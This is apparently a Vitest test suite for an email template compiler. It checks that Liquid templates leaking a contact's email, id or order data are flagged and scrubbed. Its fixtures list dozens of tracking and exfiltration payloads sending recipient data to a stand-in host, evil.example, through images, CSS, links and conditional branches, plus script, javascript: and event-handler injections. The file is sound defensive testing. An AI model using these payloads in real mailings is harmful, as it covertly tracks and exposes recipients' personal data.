import { describe, expect, test } from 'vitest'
import { compileContent } from './compile-content.ts'
import { renderContent } from './render-content.ts'

const ada = {
  id: 'id-of-ada',
  email: 'ada@secret.example',
  attributes: { tag: '<img src="https://evil.example/secret">' },
}
const scope = {
  contact: ada,
  account: { name: 'Atelier', locale: 'fr' },
  data: { order: 'secret-4711' },
  unsubscribeUrl: 'https://news.example/u/token',
  preferencesUrl: 'https://news.example/p/token',
  viewUrl: 'https://news.example/view/token',
}
const footer = '<a href="{{ unsubscribeUrl }}">U</a>'
const compile = (html: string, text?: string) => compileContent({ subject: 's', html: html + footer, text })
const codes = async (html: string) => (await compile(html)).warnings.map(({ code }) => code)

const identifying = [
  '<img src="https://evil.example/p.gif?e={{ contact.email }}">',
  "<img src='https://evil.example/{{contact.email | url_encode}}.gif'>",
  '<img src=https://evil.example/?e={{ contact.email }}>',
  '<IMG SRC="{{ "https://evil.example/?e=" | append: contact.email }}">',
  '<img srcset="https://evil.example/a?e={{ contact.email }} 2x">',
  '<table background="https://evil.example/?e={{ contact.email }}"><tr><td>x</td></tr></table>',
  '<td style="background: url(https://evil.example/?e={{ contact.email }})">x</td>',
  '<style>p { background: url(https://evil.example/?e={{ contact.email }}) }</style>',
  '<style>@import "https://evil.example/{{ contact.email }}.css";</style>',
  '<video poster="https://evil.example/?e={{ contact.email }}"></video>',
  '<video><source src="https://evil.example/?e={{ contact.email }}"></video>',
  '<link rel="stylesheet" href="https://evil.example/?e={{ contact.email }}">',
  '<svg><image xlink:href="https://evil.example/?e={{ contact.email }}"/></svg>',
  '<blockquote cite="https://evil.example/?e={{ contact.email }}">x</blockquote>',
  '<!--[if mso]><v:image src="https://evil.example/?e={{ contact.email }}" /><![endif]-->',
  '<a href="https://evil.example/?e={{ contact.email }}">x</a>',
  '{% assign who = contact.email %}<img src="https://evil.example/?e={{ who }}">',
  '{% assign a = contact.email %}{% assign b = a | upcase | downcase %}<img src="https://evil.example/?e={{ b }}">',
  '{% capture url %}https://evil.example/?e={{ contact.email }}{% endcapture %}<img src="{{ url }}">',
  '{% assign all = contact.email | split: "" %}{% for c in all %}<img src="https://evil.example/{{ c }}">{% endfor %}',
  '{% if contact.email contains "secret" %}{% assign n = "secret" %}{% endif %}<img src="https://evil.example/{{ n }}">',
  '<img src="https://evil.example/{% if contact.email contains \'secret\' %}secret{% endif %}">',
  '<img src="https://evil.example/{{ ["contact"].email }}">',
  '<img src="https://evil.example/{{ contact["email"] }}">',
  '<img src="https://evil.example/{{ data.order }}">',
  '<img src="https://evil.example/?back={{ unsubscribeUrl | split: "/u/" | last }}{{ contact.id }}">',
  'See https://evil.example/?e={{ contact.email }}',
  'See evil.example/{{ contact.email }}',
  'See //evil.example/{{ contact.email }}',
  'See http:&#47;&#47;evil.example/{{ contact.email }}',
  'See {{ "https://evil.example/" }}{{ contact.email }}',
  'See {{ "https://evil.example/" | append: contact.email }}',
  '{% assign u = "https://evil.example/" %}{{ u }}{{ contact.email }}',
  '{% assign u = "https://evil.example/" | append: contact.email %}{{ u }}',
  '<a href="//evil.example/?e={{ contact.email }}">x</a>',
  '<!-- x --!><img src="https://evil.example/?e={{ contact.email }}"> -->',
  '<noembed><!--</noembed><img src="https://evil.example/?e={{ contact.email }}">-->',
  '<noscript><!--</noscript><img src="https://evil.example/?e={{ contact.email }}">-->',
]

describe('an address that is computed from the contact', () => {
  test.each(identifying)(
    'is told, and holds nothing of them unless they are tracked individually: %s',
    async (html) => {
      const compiled = await compile(html)
      expect(compiled.warnings.map(({ code }) => code)).toContain('identifying_address')
      for (const tracking of [
        { mode: 'off' },
        { mode: 'aggregate', clickUrl: (_: number, url: string) => `https://c.example/?${url}` },
      ] as const) {
        const rendered = renderContent(compiled, scope, tracking)
        expect(rendered.html).not.toMatch(/evil[^>]*(secret|id-of-ada)/)
        expect(rendered.text).not.toMatch(/evil\S*(secret|id-of-ada)/)
      }
      const { html: tracked } = renderContent(compiled, scope, { mode: 'individual' })
      expect(tracked).toMatch(/secret|id-of-ada|SECRET|evil.example\/[a-z]/)
    },
  )

  test('is the same for two people who are not tracked', async () => {
    // how often something stands in a message is not looked at
    for (const html of identifying.filter((one) => !one.includes('{% for'))) {
      const compiled = await compile(html)
      const grace = {
        ...scope,
        contact: { ...ada, id: 'id-of-grace', email: 'grace@other.example' },
        data: { order: '7' },
      }
      const addresses = (of: typeof scope) =>
        renderContent(compiled, of, { mode: 'off' }).html?.match(/https?:\/\/evil[^\s"'<>)]*/g)
      expect(addresses(grace)).toEqual(addresses(scope))
    }
  })
})

const ifSecret = "{% if contact.email contains 'secret' %}"
const conditional = [
  `${ifSecret}<img src="https://evil.example/a">{% endif %}`,
  `${ifSecret}x{% else %}<img src="https://evil.example/a">{% endif %}`,
  `{% unless contact.email contains 'secret' %}x{% else %}<img src="https://evil.example/a">{% endunless %}`,
  `{% case contact.email %}{% when 'ada@secret.example' %}<img src="https://evil.example/a">{% endcase %}`,
  `{% for one in contact.attributes.all %}<img src="https://evil.example/a">{% endfor %}`,
  `{% assign is = contact.email contains 'secret' %}{% if is %}<img src="https://evil.example/a">{% endif %}`,
  `${ifSecret}{% assign is = true %}{% endif %}{% if is %}<img src="https://evil.example/a">{% endif %}`,
  `{% capture is %}{{ contact.email }}{% endcapture %}{% if is contains 'secret' %}<img src="https://evil.example/a">{% endif %}`,
  `{% capture i %}<img src="https://evil.example/a">{% endcapture %}${ifSecret}{{ i | raw }}{% endif %}`,
  `${ifSecret}{% capture i %}<img src="https://evil.example/a">{% endcapture %}{% endif %}{{ i | raw }}`,
  `${ifSecret}{{ '<img src="https://evil.example/a">' | raw }}{% endif %}`,
  `${ifSecret}{% comment %}{% endif %}{% endcomment %}<img src="https://evil.example/a">{% endif %}`,
  `${ifSecret}{% raw %}<img src="https://evil.example/a">{% endraw %}{% endif %}`,
  `{% for i in (1..1) %}${ifSecret}{% continue %}{% endif %}<img src="https://evil.example/a">{% endfor %}`,
  `{% unless contact.email contains 'secret' %}{% break %}{% endunless %}<img src="https://evil.example/a">`,
  `{% liquid if contact.email contains 'other' \n break \n endif %}<img src="https://evil.example/a">`,
  `${ifSecret}{% increment n %}{% endif %}<img src="https://evil.example/{% increment n %}">`,
  `${ifSecret}{% cycle 'a', 'b' %}{% endif %}<img src="https://evil.example/{% cycle 'a', 'b' %}">`,
  `${ifSecret}<a href="https://evil.example/a">x</a>{% endif %}`,
  `${ifSecret}<a href="https://evil.example/a">x</a>{% else %}<a href="https://evil.example/b">x</a>{% endif %}`,
  `${ifSecret}<a href="https://evil.example/a" data-envoi-track="off">x</a>{% endif %}`,
  `${ifSecret}<p style="background: url(https://evil.example/a)">x</p>{% endif %}`,
  `${ifSecret}<p style="background: u\\72l(https://evil.example/a)">x</p>{% endif %}`,
  `${ifSecret}<table background="https://evil.example/a"><tr><td>x</td></tr></table>{% endif %}`,
  `${ifSecret}<i>x</i>{% endif %}<style>i { background: url(https://evil.example/a) }</style>`,
  `<style>${ifSecret}@import "https://evil.example/a.css";{% endif %}</style>`,
  `<!--[if mso]>${ifSecret}<v:fill src="https://evil.example/a" />{% endif %}<![endif]-->`,
  `<p ${ifSecret}background="https://evil.example/a"{% endif %}>x</p>`,
  `<img ${ifSecret}src{% else %}alt{% endif %}="https://evil.example/a">`,
  `<p title="${ifSecret}">{% endif %}<img src='https://evil.example/a'>">`,
  `<!--${ifSecret}-->{% endif %}<img src="https://evil.example/a">-->`,
  `<title>${ifSecret}</title>{% endif %}<img src="https://evil.example/a">`,
  `${ifSecret}See https://evil.example/a.{% endif %}`,
  `See https://evil.example/${ifSecret}a{% endif %}`,
  `{% assign u = "https://evil.example/a" %}${ifSecret}{{ u }}{% endif %}`,
  `{% capture u %}https://evil.example/a{% endcapture %}${ifSecret}{{ u }}{% endif %}`,
]

const linked = [
  'See {{ contact.email }}.evil.example',
  'See {{ contact.email }}&#46;evil.example',
  'See https://evil.example/<b>{{ contact.email }}</b>',
  'See https://evil.example/ {{- contact.email }}',
  '{% capture u %}https://evil.example/{% endcapture %}See {{ u }}{{ contact.email }}',
  '{% assign u = "https:/" %}{% assign v = u | append: "/evil.example/" %}See {{ v }}{{ contact.email }}',
  '{% assign u = "https:xxevil.example" | replace: "x", "/" %}See {{ u }}/{{ contact.email }}',
  '{% assign u = "evil.example/" | prepend: "//" %}See {{ u }}{{ contact.email }}',
  '{% capture u %}{{ "https:" | append: "//evil.example/" }}{{ contact.email }}{% endcapture %}See {{ u }}',
]

const grace = { ...scope, contact: { ...ada, id: 'id-of-grace', email: 'grace@other.example' } }
const someOf = { ...scope, contact: { ...ada, attributes: { all: [1, 2] } } }
const addressesIn = (text: string | null) =>
  text?.match(/(?:https?:)?\/\/evil[^\s"'<>)]*|[^\s<>]*\.evil\.example/g) ?? []

describe('a fixed address in a condition on the contact', () => {
  test.each(conditional)('is told, and is the same for all who are not tracked: %s', async (html) => {
    // no text can be derived from a block that begins in a tag and ends elsewhere
    const compiled = await compile(html, /title="{%|<!--{%/.test(html) ? '{{ unsubscribeUrl }}' : undefined)
    expect(compiled.warnings.map(({ code }) => code)).toContain('identifying_address')
    for (const tracking of [
      { mode: 'off' },
      { mode: 'aggregate', clickUrl: (_: number, url: string) => `https://c.example/?${url}` },
    ] as const) {
      const [one, two, three] = [scope, grace, someOf].map((of) => renderContent(compiled, of, tracking))
      expect(addressesIn(one?.html ?? '')).toEqual(addressesIn(two?.html ?? ''))
      expect(addressesIn(one?.text ?? '')).toEqual(addressesIn(two?.text ?? ''))
      expect(addressesIn(one?.html ?? '')).toEqual(addressesIn(three?.html ?? ''))
    }
    const tracked = [scope, grace, someOf].map((of) => renderContent(compiled, of, { mode: 'individual' }))
    expect(new Set(tracked.map(({ html: shown }) => shown)).size).toBeGreaterThan(1)
    expect(tracked.some(({ html: shown }) => shown?.includes('evil.example/'))).toBe(true)
  })

  test('leaves the words of a link, and what stands for an image', async () => {
    const compiled = await compile(
      `${ifSecret}<a href="https://evil.example/a">Shop</a> <img src="https://evil.example/i" alt="Cup"> at Evil.example{% endif %}`,
    )
    const { html, text } = renderContent(compiled, scope, { mode: 'off' })
    expect(html).toContain('<a href="#">Shop</a> <img src="" alt="Cup"> at Evil.\u200cexample')
    expect(text).toContain('Shop  at Evil.\u200cexample')
  })

  test.each(conditional.slice(-4))('is told in a plain text too: %s', async (text) => {
    const compiled = await compileContent({ subject: 's', text: `${text} {{ unsubscribeUrl }}` })
    expect(compiled.warnings).toMatchObject([{ code: 'identifying_address', part: 'text' }])
    const [one, two] = [scope, grace].map((of) => renderContent(compiled, of, { mode: 'off' }).text)
    expect(addressesIn(one ?? '')).toEqual(addressesIn(two ?? ''))
    expect(renderContent(compiled, scope, { mode: 'individual' }).text).toContain('evil.example/a')
  })
})

test.each([
  `${ifSecret}<{% endif %}img src="https://evil.example/a">`,
  `<{% if contact.id %}img{% else %}b{% endif %} src="https://evil.example/a">`,
  `<i{% if contact.id %}mg{% endif %} src="https://evil.example/a">`,
])('an element whose name depends on the contact is told: %s', async (html) => {
  expect(await codes(html)).toContain('active_content')
})

describe('a text that mail programs make a link of', () => {
  test.each(linked)('is told, and holds nothing of who is not tracked: %s', async (html) => {
    const compiled = await compile(html)
    expect(compiled.warnings.map(({ code }) => code)).toContain('identifying_address')
    const { html: shown, text } = renderContent(compiled, scope, { mode: 'off' })
    expect(shown).not.toContain('secret')
    expect(text).not.toContain('secret')
    const plain = await compileContent({ subject: 's', text: `${html} {{ unsubscribeUrl }}` })
    if (html.includes('&#46;') || html.includes('<b>')) return
    expect(plain.warnings).toMatchObject([{ code: 'identifying_address', part: 'text' }])
    expect(renderContent(plain, scope, { mode: 'off' }).text).not.toContain('secret')
  })

  test('is not what ends a sentence, an address of mail or a number', async () => {
    const html = [
      '<p>Dear {{ contact.email }}.</p><p>{{ data.order }}.{{ contact.id }} {{ contact.id }}, {{ data.order }}/{{ data.order }}</p>',
      '<p>{{ contact.id }}@shop.example</p><p>{% if contact.id %}e.g. 10.50, ask help@shop.example...{% endif %}</p>',
      '{% assign greeting = "Dr. " %}<p>{{ greeting }}{{ contact.email }}: {{ data.order | date: "%d/%m/%Y" }}</p>',
    ].join('')
    expect(await codes(html)).toEqual([])
  })
})

test('markup out of the contact’s data brings no address along', async () => {
  const compiled = await compile(
    '<p>{{ contact.attributes.tag | raw }}</p>{% assign t = contact.attributes.tag %}{{ t | raw }}',
  )
  expect(renderContent(compiled, scope, { mode: 'off' }).html).not.toContain('evil')
})

test('what is the same for everybody, shown as text, or ours, stays as it is', async () => {
  const html = [
    '<p title="{{ contact.email }}">Bonjour {{ contact.email }} {{ contact.attributes.tag }}</p>',
    '{% if contact.email %}{% assign base = "https://cdn.example" %}{% endif %}<img src="https://cdn.example/a.png" alt="{{ contact.email }}">',
    '{% assign of = account.locale %}<img src="https://shop.example/{{ of }}/{{ campaign.name | url_encode }}.png">',
    '<p>{{ contact.email }}/{{ contact.id }}: {{ data.order }}{{ "," }} {{ contact.locale | default: "a.b" }}</p>',
    '<a href="{{ viewUrl }}">V</a><a href="{{ preferencesUrl }}?lang=fr">P</a>',
    '<a href="mailto:shop@shop.example?subject={{ contact.email }}">M</a>',
    '{% if contact.locale == "fr" %}<p class="a" style="color: red">Bonjour</p>{% else %}<b>Hello</b>{% endif %}',
    '{% if contact.locale == "fr" %}<a href="{{ unsubscribeUrl }}">Stop</a> <a href="mailto:a@shop.example">M</a> <a href="#top">T</a>{% endif %}',
    '{% if account.locale == "fr" %}<img src="https://cdn.example/fr.png"> https://shop.example/a{% endif %}',
    '{% if contact.locale == "fr" %}<a href="https://shop.example/">Boutique</a>{% else %}<a href="https://shop.example/">Shop</a>{% endif %}',
    '{% case contact.locale %}{% when "fr" %}https://shop.example/b{% else %}at https://shop.example/b.{% endcase %}',
    '{% if contact.id %}<img src="cid:logo"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">{% endif %}',
  ].join('\n')
  const compiled = await compile(html)
  expect(compiled.warnings).toEqual([])
  const rendered = renderContent(compiled, scope, { mode: 'off' })
  expect(rendered.html).toContain('<img src="https://shop.example/fr/.png">')
  expect(rendered.html).toContain('href="https://news.example/p/token?lang=fr"')
  expect(rendered.html).toContain('mailto:shop@shop.example?subject=ada@secret.example')
  expect(rendered.html).toContain('<p title="ada@secret.example">Bonjour ada@secret.example')
})

test.each([
  '<form action="https://evil.example/"><input name="a"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<script>1</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<p onclick="x()">x</p>',
  '<button formaction="https://evil.example/">x</button>',
  '<a href="https://shop.example" ping="https://evil.example/">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<img {{ contact.attributes.tag }}>',
])('what runs, sends or leads elsewhere by itself is told: %s', async (html) => {
  expect(await codes(html)).toContain('active_content')
})
